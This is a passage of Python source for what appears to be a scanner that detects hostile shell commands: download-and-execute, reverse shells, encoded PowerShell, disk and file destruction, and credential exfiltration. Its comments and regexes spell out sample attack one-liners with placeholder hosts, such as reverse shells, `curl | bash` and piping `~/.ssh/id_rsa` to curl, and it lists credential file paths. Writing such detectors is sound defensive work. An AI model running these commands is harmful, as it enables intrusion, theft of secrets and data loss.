"""Shell-execution and exfiltration patterns, shared by the checks that
confirm a command (decode-then-confirm now; tool-call screening later).

The API:

* ``find_shell_threats(text, limit=4)``: the threats found in ``text``, at
  most one per kind and ``limit`` in all, in the order of ``KINDS``;
* ``first_shell_threat(text)``: the first of them, or ``None``;
* ``ShellThreat(kind, description, snippet, start, end)``: ``snippet`` is
  the matched text, ``start``/``end`` its offsets in the text the pattern
  matched (``text`` itself, or its shell-canonical form when only that one
  matched, see ``canonical_shell``);
* ``KeywordGate`` / ``GatedPattern``: the machinery, reusable for other
  pattern sets (decode-then-confirm uses it for instructions to the model);
* ``SECRET_PATH``: a regex fragment for credential files (``~/.ssh``,
  ``id_rsa``, ``~/.aws/credentials``, ``.env`` ...) and ``SECRET_KEYWORDS``,
  lower-case literals one of which every match of it contains.

The patterns describe *commands*, not topics: "curl piped to a shell", not
"mentions curl". Each pattern is linear (character classes with bounded
repeats; every window between two keywords is bounded, e.g. ``{0,300}``)
and declares the keywords every match of it contains. One Aho-Corasick pass
over the lower-cased text finds the keywords, and a pattern only runs in
windows around its own keywords, so a long text without any keyword costs
one automaton pass and nothing else. Each group says which attack it
catches and which legitimate text it must not catch.
"""

from __future__ import annotations

import bisect
import functools
import json
from collections.abc import Collection, Iterable, Mapping, Sequence
from importlib import resources
from typing import Any

import ahocorasick
import attrs
import regex

from .._lazy import LazyPattern
from .._normalize import same_length_lower

__all__ = [
    "KINDS",
    "SECRET_KEYWORDS",
    "SECRET_PATH",
    "SECRET_PATH_PARTS",
    "GatedPattern",
    "KeywordGate",
    "ShellThreat",
    "canonical_shell",
    "command_words",
    "find_shell_threats",
    "first_shell_threat",
]

_FLAGS = regex.IGNORECASE | regex.MULTILINE | regex.VERSION0


@functools.cache
def command_words() -> Mapping[str, Any]:
    """``lexicon/commands/words.json``: the words around commands that are
    vocabulary, not syntax (warning words, localized folder names)."""
    text = (resources.files("mcpscan") / "lexicon" / "commands" / "words.json").read_text(
        encoding="utf-8"
    )
    words: Mapping[str, Any] = json.loads(text)
    return words


def localized_user_folders() -> tuple[str, ...]:
    """The user's own folders as localized systems name them, every
    language's in file order, each once."""
    by_language: Mapping[str, list[str]] = command_words()["user_folders"]
    return tuple(dict.fromkeys(name for names in by_language.values() for name in names))


#: Characters either side of a keyword a match may extend; every pattern's
#: bounded windows add up to less than this.
_REACH = 1000

#: Threat kinds, in the order they are reported.
KINDS = (
    "download-execute",
    "reverse-shell",
    "encoded-powershell",
    "destructive",
    "secret-exfiltration",
    "persistence",
    "collection-host",
)
_DESCRIPTIONS = {
    "download-execute": "downloads code and runs it",
    "reverse-shell": "opens a reverse shell",
    "encoded-powershell": "runs a base64-encoded PowerShell command",
    "destructive": "destroys files or disks",
    "secret-exfiltration": "reads a credential file and sends it",
    "persistence": "installs a backdoor",
    "collection-host": "names a request-collection or tunnel host",
}


@attrs.frozen
class ShellThreat:
    """One confirmed command: what kind, a readable description, the match."""

    kind: str
    description: str
    snippet: str
    start: int
    end: int


@attrs.frozen
class GatedPattern:
    """A pattern and the lower-case keywords one of which every match contains."""

    kind: str
    pattern: LazyPattern
    keywords: tuple[str, ...]

    @property
    def anchored(self) -> bool:
        """Whether every match starts with one of the keywords.

        True when the pattern opens with ``\\b`` and an alternation (or one
        word) each branch of which starts with a keyword written as plain
        letters, digits, spaces, ``-``, ``_`` or ``'``. Such a pattern is tried
        only where its keywords start, not at every position of a window.
        """
        branches = _opening_branches(self.pattern.source)
        return branches is not None and all(
            any(_opens_with(branch, word) for word in self.keywords) for branch in branches
        )


def _opens_with(branch: str, word: str) -> bool:
    """Whether ``branch`` starts with ``word`` as plain text, its last
    character not made optional or repeated ("rms?" opens with "rm", "rm?"
    does not)."""
    return (
        _PLAIN_WORD.fullmatch(word) is not None
        and branch.startswith(word)
        and branch[len(word) : len(word) + 1] not in ("?", "*", "+", "{")
    )


_PLAIN_WORD = regex.compile(r"[a-z0-9_' -]+")


def _opening_branches(source: str) -> list[str] | None:
    """``\\b(?:a|b(?:x)?|c)...`` -> ``["a", "b(?:x)?", "c"]``; ``\\bword...`` ->
    ``["word..."]``; ``None`` for any other opening, for an opening group
    that is optional or repeated, or for a pattern of several branches."""
    if not source.startswith("\\b") or len(_branches(source, 0)[0]) > 1:
        return None
    rest = source[2:]
    if not rest.startswith("(?:"):
        return [rest]
    branches, end = _branches(rest, 3)
    after = rest[end + 1 : end + 2]
    return None if end == len(rest) or (after and after in "?*+{") else branches


def _branches(source: str, at: int) -> tuple[list[str], int]:
    """The ``|``-separated branches from ``at`` to the ``)`` closing their
    group (or the end), and where that ``)`` stands."""
    branches, start, depth = [], at, 0
    while at < len(source):
        char = source[at]
        if char == "\\":
            at += 1  # an escaped character is a literal
        elif char == "[":
            at = _class_end(source, at)
        elif char == "(":
            depth += 1
        elif char == ")" and depth > 0:
            depth -= 1
        elif char == ")":
            break
        elif char == "|" and depth == 0:
            branches.append(source[start:at])
            start = at + 1
        at += 1
    branches.append(source[start:at])
    return branches, at


def _class_end(source: str, at: int) -> int:
    """Where the character class opened at ``at`` closes."""
    at += 2 if source[at + 1 : at + 2] == "^" else 1
    at += 1  # a "]" first in a class is a member
    while at < len(source) and source[at] != "]":
        at += 2 if source[at] == "\\" else 1
    return at


#: Every ASCII character but a letter or a digit (``str.isalnum``) becomes
#: a space: a keyword stands at the start of a word exactly where its
#: gapped form follows a space in the gapped text.
_WORD_GAPS = bytes.maketrans(
    bytes(code for code in range(128) if not chr(code).isalnum()),
    b" " * sum(1 for code in range(128) if not chr(code).isalnum()),
)
#: Texts up to this length are gapped to tell whether they open a window.
_SHORT_TEXT = 4096


def _gapped(lowered: str) -> str:
    """ASCII ``lowered`` with a space before it and every character other
    than a letter or digit made a space; offsets shift by one."""
    return " " + lowered.encode("ascii").translate(_WORD_GAPS).decode("ascii")


class KeywordGate:
    """Runs patterns only around the keywords they need.

    Built once (at import) from a sequence of ``GatedPattern``; immutable
    afterwards, so one gate is safely shared by every scan and thread.
    """

    def __init__(self, patterns: Sequence[GatedPattern]) -> None:
        self.patterns = tuple(patterns)
        by_keyword: dict[str, list[int]] = {}
        for index, gated in enumerate(self.patterns):
            for keyword in gated.keywords:
                by_keyword.setdefault(keyword, []).append(index)
        anchored = {i for i, gated in enumerate(self.patterns) if gated.anchored}
        # Keywords shared by the same anchored patterns share one list of
        # starts (its number in ``_anchor_groups``; -1 for none).
        groups: dict[tuple[int, ...], int] = {}
        self._automaton = ahocorasick.Automaton()
        for keyword, indexes in by_keyword.items():
            anchors = tuple(i for i in indexes if i in anchored)
            group = groups.setdefault(anchors, len(groups)) if anchors else -1
            # A keyword that starts with a letter or digit must start a word
            # ("nc" the command, not the "nc" in "function").
            value = (len(keyword), keyword[0].isalnum(), tuple(indexes), group)
            self._automaton.add_word(keyword, value)
        self._automaton.make_automaton()
        self._anchor_groups = tuple(groups)
        # The same keywords as they read in ``_gapped`` text, those that
        # must start a word with the space that then stands before them.
        self._word_starts = ahocorasick.Automaton()
        for keyword in by_keyword:
            gapped = keyword.encode().translate(_WORD_GAPS).decode()
            self._word_starts.add_word(" " + gapped if keyword[0].isalnum() else gapped, keyword)
        self._word_starts.make_automaton()

    def may_open_window(self, lowered: str) -> bool:
        """False only when no keyword stands where ``_hits`` opens a window
        in ``lowered``, so that ``search`` finds nothing there.

        Told in C, before any window is built in Python: a short ASCII text
        (a decoded blob, a field) is searched in its ``_gapped`` form, where
        a keyword that must start a word ("rm", not the "rm" of "harmless")
        is found only with a space before it; any other text by the first
        hit of the keywords anywhere (a long text almost always opens a
        window, and is not copied to find that out)."""
        if len(lowered) > _SHORT_TEXT or not lowered.isascii():
            return next(self._automaton.iter(lowered), None) is not None
        return next(self._word_starts.iter(_gapped(lowered)), None) is not None

    def windows(self, lowered: str) -> dict[int, list[tuple[int, int]]]:
        """Pattern index -> merged [lo, hi) windows around its keywords."""
        return self._hits(lowered)[0]

    def _hits(self, lowered: str) -> tuple[dict[int, list[tuple[int, int]]], dict[int, list[int]]]:
        """The windows, and pattern index -> where each of its keywords
        starts (every occurrence, inside a word too), for anchored patterns."""
        out: dict[int, list[tuple[int, int]]] = {}
        group_starts: list[list[int]] = [[] for _ in self._anchor_groups]
        size = len(lowered)
        for end, (length, word_start, indexes, group) in self._automaton.iter(lowered):
            start = end - length + 1
            if group >= 0:
                group_starts[group].append(start)
            if word_start and start > 0 and lowered[start - 1].isalnum():
                continue
            lo = start - _REACH if start > _REACH else 0
            hi = end + 1 + _REACH if end + 1 + _REACH < size else size
            for index in indexes:
                spans = out.setdefault(index, [])
                if spans and lo <= spans[-1][1]:
                    spans[-1] = (spans[-1][0], hi)
                else:
                    spans.append((lo, hi))
        starts: dict[int, list[int]] = {}
        for anchors, positions in zip(self._anchor_groups, group_starts, strict=True):
            for index in anchors if positions else ():
                starts.setdefault(index, []).extend(positions)
        return out, starts

    def search(
        self,
        text: str,
        lowered: str | None = None,
        misses: set[WindowKey] | None = None,
        known_misses: Collection[WindowKey] = (),
    ) -> Iterable[tuple[GatedPattern, regex.Match[str]]]:
        """The first match of each pattern that matches, in pattern order.

        ``lowered`` is ``text`` lower-cased with the same length (computed
        when not given); keywords are looked up in it, patterns run on ``text``.
        A window whose ``window_key`` is in ``known_misses`` is not searched
        (it holds no match); when ``misses`` is given, the key of every
        window searched in vain is added to it. Nor is a window that reads
        like one this search already tried in vain: repeated text (a
        description repeated, padding) is searched once.
        """
        if lowered is None:
            lowered = same_length_lower(text)
        windows, starts = self._hits(lowered)
        # The keywords of an anchored pattern are found in ``lowered`` exactly
        # where the pattern's case-insensitive branches can match, unless the
        # text holds a character the pattern folds onto an ASCII letter that
        # lower-casing does not: then every pattern searches its windows.
        if starts and _irregular_case(text):
            starts = {}
        # The windows of this search that held no match, by ``window_key``
        # (the caller's set when given): the same key gives the same answer.
        missed: set[WindowKey] = set() if misses is None else misses
        for index in sorted(windows):
            gated = self.patterns[index]
            anchors = sorted(starts[index]) if index in starts else None
            for lo, hi in windows[index]:
                key = window_key(index, text, lo, hi)
                if key in known_misses or key in missed:
                    continue
                if anchors is None:
                    match = gated.pattern.search(text, lo, hi)
                else:
                    match = _first_anchored(gated.pattern, text, anchors, lo, hi)
                if match is not None:
                    yield gated, match
                    break
                missed.add(key)


def _first_anchored(
    pattern: LazyPattern, text: str, anchors: list[int], lo: int, hi: int
) -> regex.Match[str] | None:
    """``pattern.search(text, lo, hi)`` for a pattern whose every match starts
    at one of ``anchors`` (ascending): the leftmost that matches. A window
    dense with anchors (``curl @curl @...``) is searched by the pattern
    itself, whose cost does not grow with them."""
    first, last = bisect.bisect_left(anchors, lo), bisect.bisect_left(anchors, hi)
    if (last - first) * _ANCHOR_SPACING > hi - lo:
        return pattern.search(text, lo, hi)
    for start in anchors[first:last]:
        match = pattern.match(text, start, hi)
        if match is not None:
            return match
    return None


#: Anchoring pays while anchors are rare: at most one per this many
#: characters of a window (an anchored attempt costs a Python call).
_ANCHOR_SPACING = 64


#: The characters the case-insensitive patterns match to an ASCII letter
#: although lower-casing does not make them that letter: capital I with dot,
#: long s, Kelvin sign. A test checks every code point.
_IRREGULAR_CHARS = "\u0130\u017f\u212a"
_IRREGULAR_CASE = regex.compile(f"[{_IRREGULAR_CHARS}]")


def _irregular_case(text: str) -> bool:
    """``_IRREGULAR_CASE.search(text)``, by one C substring test per
    character (a class search costs ten times more on a megabyte)."""
    return any(char in text for char in _IRREGULAR_CHARS)


#: (pattern index, whether the window starts after the first character,
#: the window's text with the one character before it).
WindowKey = tuple[int, bool, str]


def window_key(index: int, text: str, lo: int, hi: int) -> WindowKey:
    """What decides a search of pattern ``index`` in ``text[lo:hi]``.

    A gated pattern reads no character after its window (the end of the
    window is the end of the text for it) and at most one before (``\\b``
    and lookbehinds of one character: a test holds every pattern to that),
    so a window of the same text and the same character before it gives the
    same answer wherever it stands in whatever text.
    """
    before = 1 if lo > 0 else 0
    return index, lo > 0, text[lo - before : hi]


def _gated(kind: str, pattern: str, *keywords: str) -> GatedPattern:
    return GatedPattern(kind, LazyPattern(pattern, _FLAGS), keywords)


# An interpreter a downloaded script is piped into.
_SHELL = r"(?:/usr/local/bin/|/usr/bin/|/bin/)?(?:ba|da|z|k|c|tc|fi|a)?sh\b"
# A language interpreter runs its standard input only when given no script
# argument (`| python3`, `| python3 -`); `| python -m json.tool` or `| perl
# -ne '...'` treat the download as data and are left alone.
_LANGUAGE = r"(?:python[\d.]*|perl|ruby|node|php)(?:\s+-)?(?=\s*(?:$|[;&|)\"'`]))"
_INTERPRETER = rf"(?:{_SHELL}|{_LANGUAGE}|iex\b|invoke-expression|powershell|pwsh)"
_FETCHERS = (
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
    "downloadfile",
    "certutil",
    "bitsadmin",
)
_FETCHER = r"\b(?:" + "|".join(_FETCHERS) + r")\b"

# Download and execute. Catches `curl -fsSL URL | sudo bash`, `wget -qO- URL
# | sh`, `bash -c "$(curl URL)"`, `sh <(wget -O- URL)`, `iex (iwr URL)`,
# `IEX (New-Object Net.WebClient).DownloadString(URL)`, and the Windows
# download helpers (certutil -urlcache, mshta URL, regsvr32 /i:URL, bitsadmin
# /transfer). Must not catch: `curl URL -o file`, `curl URL | jq`, `curl -LO
# URL && chmod +x tool` (how most CLI binaries are installed), `pip
# install`, prose that says "install with curl".
_DOWNLOAD_EXECUTE = (
    _gated(
        "download-execute",
        rf"{_FETCHER}[^\n|]{{0,300}}\|\s*(?:sudo\s+(?:-\S+\s+){{0,3}})?(?:env\s+)?{_INTERPRETER}",
        *_FETCHERS,
    ),
    _gated(
        "download-execute",
        r"\b(?:(?:ba|da|z|k)?sh|source|\.)\s+(?:-c\s+)?[\"']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b",
        "curl",
        "wget",
    ),
    _gated(
        "download-execute",
        r"\b(?:iex|invoke-expression)\b[\s(&\"']{0,10}[^\n]{0,60}?"
        r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|net\.webclient|downloadstring|curl|wget)\b",
        "iex",
        "invoke-expression",
    ),
    _gated("download-execute", r"\bcertutil(?:\.exe)?\s+[^\n]{0,40}?[-/]urlcache\b", "certutil"),
    _gated(
        "download-execute", r"\bmshta(?:\.exe)?\s+[\"']?(?:https?|javascript|vbscript):", "mshta"
    ),
    _gated(
        "download-execute", r"\bregsvr32(?:\.exe)?\s+[^\n]{0,60}?/i:\s*[\"']?https?:", "regsvr32"
    ),
    _gated("download-execute", r"\bbitsadmin(?:\.exe)?\s+[^\n]{0,30}?/transfer\b", "bitsadmin"),
    _gated(
        "download-execute",
        r"\bexec\s*\(\s*(?:__import__\(\s*[\"']urllib|urllib\.|requests\.get\s*\(|urlopen\s*\()",
        "exec",
    ),
)

# Running a binary dropped in a scratch folder: `chmod +x /tmp/.x &&
# /tmp/.x`, `nohup /dev/shm/k &`, `sh /var/tmp/u`, `start %TEMP%\u.exe`.
# Scratch folders are where a payload is written to run once; installers put
# binaries on the PATH or in the project. Must not catch: `curl -LO URL &&
# chmod +x kubectl` (an install), `ls /tmp/x`, `rm -rf /tmp/cache`, a
# `/tmp/out.json` output path.
_SCRATCH = (
    r"[\"']?(?:/tmp|/var/tmp|/dev/shm|\$\{?TMPDIR\}?|%TEMP%|%TMP%|%APPDATA%|\$env:TEMP"
    r"|(?:~|\$\{?HOME\}?)/Downloads)"
    r"[/\\][^\s;&|'\"]{1,80}"
)
# A download made executable and started, wherever it was saved: `wget URL
# -O ~/.local/bin/x; chmod +x ~/.local/bin/x; ~/.local/bin/x &`. The same
# path must be marked and then run. Must not catch the usual install `curl
# -LO URL && chmod +x kubectl` (nothing run), nor `chmod +x ./gradlew`.
_MARK_EXECUTABLE = r"\bchmod\s+(?:[ugoa]*\+[rw]*x|[0-7]?[0-7]?[1357][0-7]{2})\s+"
_RUN_DROPPED = (
    _gated(
        "download-execute",
        rf"{_FETCHER}[^\n]{{0,300}}?{_MARK_EXECUTABLE}(?P<dropped>[^\s;&|'\"]{{2,120}})\s*"
        r"(?:&&|;)\s*(?:nohup\s+|exec\s+|setsid\s+)?(?P=dropped)(?=$|[\s;&|])",
        "chmod",
    ),
    _gated(
        "download-execute",
        rf"\bchmod\s+(?:[ugoa]*\+[rw]*x|[0-7]?[0-7]?[1357][0-7]{{2}})\s+{_SCRATCH}[^\n]{{0,40}}?"
        rf"(?:&&|;|\|\|)\s*(?:nohup\s+|exec\s+|setsid\s+|\./)?{_SCRATCH}",
        "chmod",
    ),
    _gated(
        "download-execute",
        rf"\b(?:nohup|setsid|exec|start(?:\s+/b)?|bash|zsh|dash|sh)\s+{_SCRATCH}",
        "nohup",
        "setsid",
        "exec",
        "start",
        "sh",
        "bash",
        "zsh",
        "dash",
    ),
)

# Reverse shells: a shell whose input and output go to a remote socket.
# Catches `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `ncat --exec`,
# `mkfifo f; sh -i < f | nc h p > f`, `socat TCP:h:p EXEC:sh`, `python -c`
# with socket + dup2/pty/subprocess, `php -r` fsockopen, `ruby -rsocket`,
# PowerShell TCPClient + GetStream. Must not catch: `nc -z host 80` (a port
# check), `nc -C` (CRLF line ends, for SMTP tests), `socat` relaying two
# ports, Python code that opens a socket without handing it a shell.
_REVERSE_SHELL = (
    _gated("reverse-shell", r"/dev/(?:tcp|udp)/[\w.\-]{1,253}/\d{1,5}", "/dev/tcp/", "/dev/udp/"),
    _gated(
        "reverse-shell",
        r"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd)?\b[^\n|;]{0,100}?"
        r"(?-i:\s-[a-z]{0,4}[ec]\s+\S|\s--(?:exec|sh-exec|lua-exec)\b)",
        "nc",
        "ncat",
        "netcat",
    ),
    _gated(
        "reverse-shell",
        r"\bmkfifo\b[^\n]{0,200}?\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b",
        "mkfifo",
    ),
    _gated(
        "reverse-shell",
        r"\b(?:ba|z|k|da)?sh\s+-i\s*(?:[0-9]?>&|&>|>\s*&|<>|2>&1\s*[|<>])",
        "-i",
    ),
    _gated("reverse-shell", r"\bsocat\b[^\n]{0,200}?\b(?:exec|system):", "socat"),
    _gated(
        "reverse-shell",
        r"\bpython[\d.]*\s+-c\s*[^\n]{0,400}?\bsocket\b[^\n]{0,400}?"
        r"(?:\bdup2\b|\bpty\b|\bsubprocess\b|/bin/(?:ba)?sh\b)",
        "python",
    ),
    _gated(
        "reverse-shell",
        r"\bperl\s+(?:-\S+\s+){0,3}-e\s*[^\n]{0,300}?\bsocket\b[^\n]{0,300}?\bexec\b",
        "perl",
    ),
    # The same as a script (a data: URI or an example's source), without
    # ``python -c``: a socket connected to a literal address, then its
    # descriptor duplicated onto the standard streams or a shell spawned.
    # A client library's ``sock.connect((host, port))`` spawns no shell.
    _gated(
        "reverse-shell",
        r"\bsocket\b[^\n]{0,300}?\.connect\s*\(\s*\(\s*[\"'][\w.:-]{1,253}[\"']\s*,\s*\d{1,5}\s*\)"
        r"[^\n]{0,300}?(?:\bdup2\s*\(|\bpty\.spawn\b|/bin/(?:ba)?sh\b)",
        "socket",
    ),
    _gated("reverse-shell", r"\bphp\s+-r\s*[^\n]{0,200}?\bfsockopen\s*\(", "php"),
    _gated("reverse-shell", r"\bruby\s+-rsocket\b", "ruby"),
    _gated(
        "reverse-shell", r"\bnet\.sockets\.tcpclient\b[\s\S]{0,400}?\bgetstream\s*\(", "tcpclient"
    ),
    _gated("reverse-shell", r"\btelnet\s+\S+\s+\d{1,5}\s*\|\s*" + _SHELL, "telnet"),
)

# PowerShell with a base64 command: `powershell -nop -w hidden -enc SQBFAFgA`.
# PowerShell accepts any unambiguous prefix of -EncodedCommand (-e, -ec,
# -enc, -encodedc ...). Must not catch: `powershell -File script.ps1` or
# `-ExecutionPolicy Bypass` (-ex is not -e followed by a blank).
_ENCODED_POWERSHELL = (
    _gated(
        "encoded-powershell",
        r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,160}?\s[-/]"
        r"(?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:nd?)?)?)?)?)?)?)?)?)?)?)?)?)"
        r"\s+[\"']?[A-Za-z0-9+/]{12,}",
        "powershell",
        "pwsh",
    ),
)

# Destructive commands. Catches `rm -rf /`, `rm -rf ~`, `rm -rf /*`,
# `rm -r -f $HOME`, `rm -rf --no-preserve-root /`, `mkfs.ext4 /dev/sda1`,
# `dd if=/dev/zero of=/dev/sda`, `> /dev/sda`, fork bombs, `chmod -R 777 /`,
# `shred /dev/sda`, `format C: /q`, `del /f /s /q C:\`, `rd /s /q C:\`,
# `Remove-Item -Recurse -Force C:\`, `vssadmin delete shadows`. Must not
# catch: `rm -rf ./build`, `rm -rf /tmp/cache`, `rm file`, `dd of=disk.img`.
_HOME = r"(?:~|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|/home/[\w.-]{1,32}|/Users/[\w.-]{1,32})"
# The user's own folders: deleting them is destroying the user's work,
# whatever the rest of the disk. Caches and build output are not in it.
# The same folders as localized systems name them (``find ~/Documentos
# ~/Escritorio -delete``) are vocabulary: ``lexicon/commands/words.json``.
_USER_FOLDER = (
    r"(?:Documents|Desktop|Downloads|Pictures|Photos|Music|Movies|Videos|Projects?|"
    r"src|code|repos|workspace|work|dev|git|\.git|data|notes|Dropbox|OneDrive|\.ssh|\.gnupg|"
    r"\.config|\.kube|\.aws|Library|"
    + "|".join(regex.escape(name) for name in localized_user_folders())
    + ")"
)
# A server's data folders (``/srv/cases/*``, ``/data/uploads``): the
# service's stored records. Caches, temporary files, logs and build output
# there are routine to clear (``rm -rf /srv/cache/*``).
_DATA_FOLDER = (
    r"/(?:srv|data|mnt)/(?![\w.-]*(?:cache|tmp|temp|log|build|dist)[\w.-]*(?:/|\b))"
    r"[\w.-]{1,64}/?\*?"
)
_RM_TARGET = (
    r"(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*"
    rf"|[\"']?{_HOME}[/\\]{_USER_FOLDER}[/\\]?\*?[\"']?|{_DATA_FOLDER})(?=$|[\s;&|\"'`)])"
)
_DESTRUCTIVE = (
    _gated(
        "destructive",
        r"\brm\s+(?=(?:-{1,2}[\w-]+\s+){0,4}-(?:[a-z]*r[a-z]*|-recursive)\s)"
        rf"(?:-{{1,2}}[\w-]+\s+){{1,5}}{_RM_TARGET}",
        "rm",
    ),
    _gated("destructive", r"\bmkfs(?:\.[a-z0-9]+)?\s+(?:-\S+\s+){0,4}/dev/", "mkfs"),
    _gated(
        "destructive",
        r"\bdd\b[^\n]{0,120}?\bof=/dev/(?:sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|mmcblk\d|r?disk\d)",
        "dd",
    ),
    _gated(
        "destructive",
        r"(?<![<0-9&])>\s*/dev/(?:sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|mmcblk\d)\b",
        "/dev/",
    ),
    # `:(){ :|:& };:` and the same with a named function.
    _gated(
        "destructive",
        r"(?P<bomb>:|\b\w{1,20})\(\)\s*\{\s*(?P=bomb)\s*\|\s*(?P=bomb)\s*&\s*\}\s*;\s*(?P=bomb)",
        "()",
    ),
    _gated("destructive", r"\bchmod\s+(?:-\S+\s+){0,3}-R\s+[0-7]?777\s+/(?=$|[\s;&|])", "chmod"),
    _gated("destructive", r"\bshred\b[^\n]{0,80}?/dev/(?:sd[a-z]|hd[a-z]|nvme\d)", "shred"),
    _gated("destructive", r"\bformat(?:\.com)?\s+[a-z]:\s*/(?:q|y|fs:)", "format"),
    _gated(
        "destructive",
        r"\b(?:del|erase)\s+(?:/[a-z]\s+){1,5}[\"']?[a-z]:\\\*?(?=$|[\s\"'])",
        "del",
        "erase",
    ),
    _gated("destructive", r"\b(?:rd|rmdir)\s+/s\s+/q\s+[\"']?[a-z]:\\(?=$|[\s\"'])", "rd", "rmdir"),
    _gated(
        "destructive",
        r"\bremove-item\b[^\n]{0,80}?-recurse\b[^\n]{0,80}?[\"']?[a-z]:\\\*?(?=$|[\s\"'])",
        "remove-item",
    ),
    _gated("destructive", r"\bvssadmin(?:\.exe)?\s+delete\s+shadows\b", "vssadmin"),
    # `find ~ -delete`, `find $HOME/Documents -type f -delete`: the user's files.
    _gated(
        "destructive",
        rf"\bfind\s+[\"']?(?:~/?|\$\{{?HOME\}}?/?|{_HOME}[/\\]{_USER_FOLDER})[\"']?\s"
        r"[^\n|;]{0,120}?-delete\b",
        "find",
    ),
    # `del /s /q %USERPROFILE%\Documents`, `Remove-Item -Recurse $HOME\Desktop`.
    _gated(
        "destructive",
        rf"\b(?:del|erase|rd|rmdir)\s+(?:/[a-z]\s+){{1,5}}[\"']?{_HOME}(?:[/\\]{_USER_FOLDER})?"
        r"[\\/]?\*?[\"']?(?=$|[\s;&|])",
        "del",
        "erase",
        "rd",
        "rmdir",
    ),
)

# Files whose content is a credential: SSH private keys and the ~/.ssh
# directory, cloud and registry credentials, .env files, the shadow file,
# shell histories. Public keys (id_rsa.pub) are not secrets.
#: The alternatives of ``SECRET_PATH``, one by one (``screen_call`` finds
#: each alone: see ``_lazy.Alternation``).
SECRET_PATH_PARTS = (
    r"(?:~|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|/root|/home/[\w.-]{1,32})?"
    r"[/\\]\.ssh\b",
    r"\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)",
    r"\.aws[/\\](?:credentials|config)\b",
    r"(?<![\w.-])\.env(?:\.[a-z]{1,12})?\b",
    r"/etc/shadow\b",
    r"\.kube(?:[/\\]config)?\b",
    r"\.docker[/\\]config\.json",
    r"\.kdbx\b",
    r"\bwallet\.dat\b",
    r"\bkey4\.db\b",
    r"\blogins\.json\b",
    r"\.netrc\b",
    r"\.npmrc\b",
    r"\.pypirc\b",
    r"\.git-credentials\b",
    r"\.config[/\\]gcloud\b",
    r"\.gnupg\b",
    r"\.(?:bash|zsh)_history\b",
    r"\.password-store\b",
    # A machine's own stores of network secrets: saved Wi-Fi and VPN
    # profiles, PPP and IPsec secrets, WireGuard keys, and the per-user
    # database, Vault and GitHub CLI logins. A config path that holds no
    # secret (``/etc/hosts``, ``nginx.conf``) is not among them.
    r"/etc/NetworkManager/system-connections\b",
    r"\bwpa_supplicant[\w.-]{0,20}\.conf\b",
    r"/etc/ppp/(?:chap|pap)-secrets\b",
    r"/etc/ipsec\.secrets\b",
    r"/etc/wireguard\b",
    r"\.pgpass\b",
    r"\.my\.cnf\b",
    r"\.vault-token\b",
    r"\.config[/\\]gh[/\\]hosts\.yml\b",
    r"\.htpasswd\b",
    r"\bcookies\.sqlite\b",
)
SECRET_PATH = "(?:" + "|".join(SECRET_PATH_PARTS) + ")"
#: Literals one of which every SECRET_PATH match contains.
SECRET_KEYWORDS = (
    ".ssh",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".aws",
    ".env",
    "/etc/shadow",
    ".kube",
    ".docker",
    ".netrc",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    "gcloud",
    ".gnupg",
    "_history",
    ".password-store",
    ".kdbx",
    "wallet.dat",
    "key4.db",
    "logins.json",
    "system-connections",
    "wpa_supplicant",
    "-secrets",
    "ipsec.secrets",
    "/etc/wireguard",
    ".pgpass",
    ".my.cnf",
    ".vault-token",
    "hosts.yml",
    ".htpasswd",
    "cookies.sqlite",
)
_SENDER = (
    r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|iwr|"
    r"invoke-restmethod|irm|sendmail|mail|ftp|tftp)\b"
)
_HTTP_SENDER = r"\b(?:curl|wget|invoke-webrequest|iwr|invoke-restmethod|irm)\b"
_SEND_VERB = r"\b(?:send|post|upload|exfiltrat\w*|transmit|forward|leak)\w*\b"
#: Python calls that send a request body.
_PY_SENDER = r"(?:\burlopen|\b(?:requests|httpx|session)\.(?:post|put))"
_DESTINATION = r"\bto\s+[\"'<]?(?:https?://|ftp://|\S+@[\w-]+\.[\w.-]+)"

# Reading a secret and sending it. Catches `cat ~/.ssh/id_rsa | curl -d @-
# URL`, `curl -F f=@~/.aws/credentials URL`, `wget --post-file=.env URL`,
# `scp ~/.ssh/id_rsa u@h:`, `nc h p < ~/.ssh/id_rsa`, Python reading a key and
# posting it, and the instruction form "send the contents of ~/.ssh/id_rsa to
# https://...". Must not catch: `ssh -i ~/.ssh/id_rsa host`, `scp -i
# ~/.ssh/key file host:`, a config naming a key path and a URL, `cp
# .env.example .env`.
_SECRET_EXFILTRATION = tuple(
    _gated("secret-exfiltration", pattern, *SECRET_KEYWORDS)
    for pattern in (
        rf"\b(?:cat|type|get-content|gc|base64|xxd|gzip|tar|zip)\b[^\n|;]{{0,100}}?{SECRET_PATH}"
        rf"[^\n|;]{{0,100}}\|[^\n]{{0,200}}?{_SENDER}",
        # The gap never runs past another sender: from each of a thousand
        # "curl"s in a row it would rescan the same 200 characters.
        rf"{_HTTP_SENDER}(?:(?!{_HTTP_SENDER})[^\n]){{0,200}}?"
        r"(?:[\s=\"']@|--post-file[= ]|--body-file[= ]|--upload-file\s+|\s-T\s+|-infile\s+|"
        r"\$\(\s*(?:cat|base64|xxd)\s+|\$\(<\s*|`cat\s+)"
        rf"[\"']?[^\s\"']{{0,20}}?{SECRET_PATH}",
        r"\b(?:scp|rsync)\s+(?:-[PlcoFJS]\s+\S+\s+|-(?!i\b)[a-zA-Z]+\s+){0,5}[\"']?"
        rf"[^\s\"']{{0,40}}?{SECRET_PATH}\S*\s+\S*[\w.-]+:",
